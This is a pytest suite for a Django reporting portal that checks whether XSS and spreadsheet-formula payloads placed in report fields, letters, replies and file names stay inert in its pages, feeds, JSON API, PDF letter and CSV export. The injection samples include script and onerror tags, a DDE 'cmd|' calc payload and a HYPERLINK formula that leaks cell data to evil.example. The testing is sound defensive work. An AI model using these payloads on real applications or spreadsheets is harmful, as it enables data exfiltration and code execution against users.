"""Script and markup typed into any free-text field stays inert wherever the portal shows it.

A report carries a payload (tests.portal.hostile.payload: an inline script, an image with onerror, an
SVG with onload, a javascript: link) in every free-text field; staff and the source add more in their
messages, and in the letter, its summary, its recipient and the State's reply. Each page that shows it
is parsed: the payload is there as text, escaped, and nothing in the page would run. The letter PDF has
no JavaScript, the feed is well-formed Atom whose HTML summary is text, the JSON is JSON, and no CSV cell
starts a spreadsheet formula.
"""

import csv
import datetime
import html
import io
import json
import re

import pytest
from defusedxml import ElementTree
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pypdf import PdfReader

from communications import services as communications
from communications import stats as archive_stats
from submissions import services
from submissions.models import Submission
from submissions.sections import SECTIONS
from tests.portal.hostile import live_markup, payload, shows_as_text
from tests.support.factories import make_staff_user
from tests.support.intake import press, report_data
from tests.support.staff import login_staff, make_intake_officer, make_rapporteur

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Every free-text field of the intake form, each with its own payload.
REPORT_TEXT = {
    "source-source_name": payload("S"),
    "source-source_relationship_detail": payload("SR"),
    "source-contact_details": payload("C"),
    "defender-0-name": payload("D"),
    "defender-0-region": payload("DR"),
    "defender-0-work_description": payload("W"),
    "incident-violation_other": payload("V"),
    "incident-incident_dates_detail": payload("ID"),
    "incident-place": payload("PL"),
    "incident-perpetrators": payload("PE"),
    "incident-description": payload("N"),
    "incident-current_risk": payload("R"),
    "incident-steps_taken": payload("ST"),
    "incident-confidential_people": payload("CP"),
}
MARKUP_FILE_NAME = "<img src=xF onerror=alert('F')>.txt"
QUESTION, ANSWER, NOTE = payload("Q"), payload("M"), payload("A")
# What staff type into the communication; the summary and recipient also start like spreadsheet formulas,
# and the summary has the vertical tab that Word puts for a line break.
RECIPIENT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0 " + payload("RN")
SUMMARY = '=HYPERLINK("http://evil.example/?"&A1,"Open") ' + payload("SU") + "\x0bSecond line"
REPLY = "+1 " + payload("RP")
LETTER_MARKUP = payload("L")


@pytest.fixture(autouse=True)
def _fresh():
    cache.clear()
    archive_stats.invalidate()
    yield
    archive_stats.invalidate()


def hostile_report(**overrides) -> dict:
    data = report_data(**REPORT_TEXT, **overrides)
    data["incident-violation_types"] = [*data["incident-violation_types"], "other"]
    data["consent-public_naming"] = "yes"  # the defender's name, payload and all, is public
    return data


def assert_inert(page: str, *shown: str, where: str = ""):
    assert live_markup(page) == [], where
    for text in shown:
        assert shows_as_text(page, text), f"{where}: {text!r} is not shown as text"


def submit_hostile_report(client) -> tuple[Submission, str, str]:
    data = hostile_report()
    response = client.post(
        "/submit/",
        {**data, "action": "submit", "attachments-files": SimpleUploadedFile(MARKUP_FILE_NAME, b"A statement.\n")},
    )
    page = response.content.decode()
    assert response.status_code == 200 and 'id="receipt-reference"' in page, page[:3000]
    assert_inert(page, where="receipt")
    reference = re.search(r'id="receipt-reference">([^<]+)<', page).group(1)
    passphrase = re.search(r'id="receipt-passphrase">([^<]+)<', page).group(1)
    return Submission.objects.get(reference=reference), reference, passphrase


# --- The intake form and the receipt pages -------------------------------------------------------------------


def test_markup_in_every_field_of_a_report_stays_inert_on_each_step_of_the_form(client):
    typed = list(REPORT_TEXT.values())

    with_an_error = client.post("/submit/", {**hostile_report(**{"consent-media_only": ""}), "action": "review"})
    review = client.post("/submit/", {**hostile_report(), "action": "review"})
    edit = client.post("/submit/", {**hostile_report(), "action": "edit"})
    added = client.post("/submit/", {**hostile_report(), "action": "add_defender"})
    rejected_file = client.post(
        "/submit/",
        {
            **hostile_report(),
            "action": "submit",
            "attachments-files": SimpleUploadedFile(MARKUP_FILE_NAME, b"MZ\x90\x00" + b"\x00" * 200),
        },
    )

    assert with_an_error.status_code == 400
    assert review.status_code == edit.status_code == added.status_code == 200
    assert rejected_file.status_code == 400
    assert_inert(review.content.decode(), *typed, where="review")
    # The form in sections: each page shows one section and carries the others in a signed draft.
    for name, response in [("error", with_an_error), ("edit", edit), ("added", added)]:
        assert_inert(response.content.decode(), where=name)
        sections = [press(client, response, f"goto_{section}").content.decode() for section in SECTIONS]
        for page in sections:
            assert_inert(page, where=name)
        assert_inert("".join(sections), *typed, where=name)
    assert_inert(rejected_file.content.decode(), *typed, where="rejected file")
    assert html.escape(MARKUP_FILE_NAME) in rejected_file.content.decode()  # named in the message, as text
    assert Submission.objects.count() == 0


def test_markup_from_the_source_and_the_staff_stays_inert_on_the_receipt_pages(client):
    submission, reference, passphrase = submit_hostile_report(client)
    officer = make_staff_user("markup-desk", "Desk officer")
    services.submission_request_information(submission=submission, by=officer, question=QUESTION)
    client.cookies.clear()
    assert client.post("/receipt/", {"reference": reference, "passphrase": passphrase}).status_code == 302

    answered = client.post("/receipt/message/", {"message-body": ANSWER})
    too_long = client.post("/receipt/message/", {"message-body": ANSWER * 200})
    wrong_consent = client.post("/receipt/consent/", {"action": "change", "consent-public_naming": LETTER_MARKUP})
    too_many_names = client.post("/receipt/never-name/", {"action": "add", "never-names": ANSWER * 200})
    added = client.post("/receipt/never-name/", {"action": "add", "never-names": LETTER_MARKUP})
    never_named = client.get("/receipt/never-name/")
    remove = client.post("/receipt/never-name/", {"action": "remove", "name": LETTER_MARKUP})
    page = client.get("/receipt/case/")

    assert answered.status_code == 302
    assert too_long.status_code == wrong_consent.status_code == 400
    assert_inert(page.content.decode(), QUESTION, ANSWER, where="receipt case")
    assert_inert(too_long.content.decode(), ANSWER * 200, where="message too long")
    assert_inert(wrong_consent.content.decode(), where="consent refused")
    assert (too_many_names.status_code, added.status_code) == (400, 302)
    assert_inert(too_many_names.content.decode(), where="never-named names refused")
    assert_inert(never_named.content.decode(), LETTER_MARKUP, payload("CP"), where="never-named list")
    assert_inert(remove.content.decode(), LETTER_MARKUP, where="never-named removal")


def test_markup_in_a_case_stays_inert_in_the_staff_queue_and_case_pages(client):
    submission, _reference, _passphrase = submit_hostile_report(Client())
    services.submission_screen(submission_id=submission.pk)
    officer = make_intake_officer()
    services.submission_request_information(submission=submission, by=officer, question=QUESTION)
    services.source_message_add(submission=submission, body=ANSWER)
    services.submission_accept(submission=submission, by=officer, reason=NOTE)
    login_staff(client, officer)

    queue = client.get("/admin/submissions/submission/")
    case = client.get(f"/admin/submissions/submission/{submission.pk}/change/")
    decide = client.get(f"/admin/submissions/submission/{submission.pk}/decide/")

    assert queue.status_code == case.status_code == decide.status_code == 200
    assert_inert(queue.content.decode(), submission.reference, where="queue")
    assert_inert(case.content.decode(), *REPORT_TEXT.values(), QUESTION, ANSWER, NOTE, where="case")
    assert html.escape(MARKUP_FILE_NAME) in case.content.decode()
    assert_inert(decide.content.decode(), where="decide")


# --- A communication drafted from it, and what the public reads -------------------------------------------


def released_communication(*, submission=None):
    """The hostile case accepted, drafted, edited with more markup, approved, sent, answered and released."""
    if submission is None:
        submission, _reference, _passphrase = submit_hostile_report(Client())
    desk = make_staff_user("markup-drafter", "Desk officer")
    rapporteur = make_staff_user("markup-rapporteur", "Rapporteur")
    services.submission_screen(submission_id=submission.pk)
    services.submission_accept(submission=submission, by=desk, reason=NOTE)
    communication, _draft = communications.communication_draft(
        submissions=[submission], kind="UA", recipient="TJK", recipient_name=RECIPIENT_NAME, language="en", by=desk
    )
    problems = communications.communication_edit(
        communication=communication, body=communication.body + LETTER_MARKUP, public_summary=SUMMARY
    )
    assert problems == []
    communications.communication_submit_for_review(communication=communication, by=desk)
    communications.communication_approve(communication=communication, by=rapporteur)
    communications.communication_send(communication=communication, by=desk)
    communications.reply_record(
        communication=communication, received_on=datetime.date.today(), kind="substantive", confidential=False,
        summary=REPLY, document=b"<html><body onload=alert('DOC')><script>alert('DOC')</script></body></html>",
        document_name="<script>alert('DOC')</script>.html", content_type="text/html",
    )  # fmt: skip
    communications.communication_public_approve(communication=communication, by=rapporteur)
    communications.communication_release(communication=communication, by=rapporteur, reason="Press release")
    communication.refresh_from_db()
    archive_stats.invalidate()
    return communication, rapporteur


def text_of_pdf(content: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def no_space(text: str) -> str:
    return re.sub(r"\s+", "", text)


def test_markup_in_a_released_communication_stays_inert_in_every_public_page(client):
    communication, _rapporteur = released_communication()
    record = communication.public_record
    # The report's answers reach the letter through the office's draft (the narrative never does).
    narrative = REPORT_TEXT["incident-perpetrators"]

    pages = {
        "list": client.get("/communications/"),
        "list ru": client.get("/ru/communications/"),
        "search": client.get("/communications/?q=HYPERLINK"),
        "detail": client.get(f"/communications/{record.slug}/"),
        "stats": client.get("/communications/stats/"),
    }

    for where, response in pages.items():
        assert response.status_code == 200, where
        assert_inert(response.content.decode(), where=where)
    for where in ("list", "list ru", "search"):
        assert shows_as_text(pages[where].content.decode(), SUMMARY), where
        assert record.reference in pages[where].content.decode()
    detail = pages["detail"].content.decode()
    # The detail page names a State from the country catalogue; the stored name shows in the statistics below.
    assert_inert(detail, narrative, REPORT_TEXT["defender-0-name"], REPLY, where="detail")
    assert shows_as_text(pages["stats"].content.decode(), "Tajikistan (TJK)")
    # The letter's own markup was sanitised when it was saved: its text is left, its tags are gone.
    assert "alert('L')" not in detail


def test_the_letter_pdf_of_a_hostile_case_has_no_javascript_and_prints_the_markup_as_text(client):
    communication, _rapporteur = released_communication()

    response = client.get(f"/communications/{communication.public_record.slug}/letter.pdf")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    for name in (b"/JS", b"/JavaScript", b"/AA", b"/Launch", b"/EmbeddedFile", b"/SubmitForm", b"/RichMedia"):
        assert name not in response.content
    # fpdf2 opens the document at a zoom: a destination, never an action.
    open_action = PdfReader(io.BytesIO(response.content)).trailer["/Root"].get("/OpenAction")
    assert open_action is None or isinstance(open_action, list)
    text = no_space(text_of_pdf(response.content))
    assert no_space(REPORT_TEXT["incident-perpetrators"]) in text
    assert no_space(REPORT_TEXT["defender-0-name"]) in text


def test_the_reply_document_is_served_as_a_download_never_as_a_page(client):
    communication, _rapporteur = released_communication()
    record = communication.public_record
    reply = record.replies.get()

    for path in (
        f"/communications/{record.slug}/replies/{reply.pk}/document",
        f"/api/v1/communications/{record.slug}/replies/{reply.pk}/document",
    ):
        response = client.get(path)
        assert response.status_code == 200, path
        assert response["Content-Disposition"].startswith("attachment"), path
        assert response["X-Content-Type-Options"] == "nosniff", path


def test_the_feeds_are_well_formed_atom_whose_html_summaries_show_the_markup_as_text(client):
    communication, _rapporteur = released_communication()
    record = communication.public_record

    for path in ("/communications/feed/", "/communications/feed/tjk/"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert b"<script" not in response.content and b"<img" not in response.content
        entry = ElementTree.fromstring(response.content).find(f"{ATOM}entry")
        title, summary = entry.find(f"{ATOM}title"), entry.find(f"{ATOM}summary")
        assert title.text.startswith(record.reference)
        assert "@SUM(1+1)" in title.text and "alert('RN')" in title.text
        # A feed reader renders a summary of type "html" as HTML: it must be escaped text in that HTML.
        shown = summary.text if summary.get("type") != "html" else html.unescape(summary.text)
        if summary.get("type") == "html":
            assert live_markup(summary.text) == [], path
        assert "alert('SU')" in shown and "=HYPERLINK" in shown
        assert "\x0b" not in title.text + summary.text


def test_the_api_answers_json_with_the_markup_as_data(client):
    communication, _rapporteur = released_communication()
    record = communication.public_record

    responses = {
        "list": client.get("/api/v1/communications"),
        "search": client.get("/api/v1/communications?q=HYPERLINK"),
        "detail": client.get(f"/api/v1/communications/{record.slug}"),
        "stats": client.get("/api/v1/stats"),
    }

    for where, response in responses.items():
        assert response.status_code == 200, where
        assert response["Content-Type"].startswith("application/json"), where
        assert response["X-Content-Type-Options"] == "nosniff", where
    items = json.loads(responses["list"].content)["items"]
    assert [item["summary"] for item in items] == [SUMMARY]
    assert items[0]["recipient_name"] == RECIPIENT_NAME
    assert json.loads(responses["search"].content)["items"][0]["slug"] == record.slug
    detail = json.loads(responses["detail"].content)
    assert detail["replies"][0]["text"] == REPLY
    assert live_markup(detail["letter_html"]) == []
    assert shows_as_text(detail["letter_html"], REPORT_TEXT["incident-perpetrators"])
    stats = json.loads(responses["stats"].content)
    assert stats["by_recipient"][0]["recipient_name"] == RECIPIENT_NAME


def test_no_csv_cell_starts_a_spreadsheet_formula(client):
    communication, _rapporteur = released_communication()

    response = client.get("/communications/export.csv")

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    table = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    header, row = table[0], table[1]
    assert len(table) == 2
    cells = dict(zip(header, row, strict=True))
    for name, value in cells.items():
        assert not value.startswith(FORMULA_STARTS), f"{name}: {value[:40]!r}"
    # Neutralised, not lost: the text is all there after the leading quote.
    assert cells["summary"].removeprefix("'") == SUMMARY
    assert cells["recipient_name"].removeprefix("'") == RECIPIENT_NAME
    assert cells["reference"] == communication.reference


def test_markup_in_a_communication_stays_inert_in_the_staff_pages(client):
    communication, _rapporteur = released_communication()
    login_staff(client, make_rapporteur())

    listing = client.get("/admin/communications/communication/")
    page = client.get(f"/admin/communications/communication/{communication.pk}/change/")

    assert listing.status_code == page.status_code == 200
    assert_inert(listing.content.decode(), where="communications list")
    letter = REPORT_TEXT["incident-description"]
    assert_inert(page.content.decode(), RECIPIENT_NAME, SUMMARY, letter, where="staff page")
    assert "&lt;p&gt;" not in page.content.decode()  # the letter reads as a letter, not as its tags
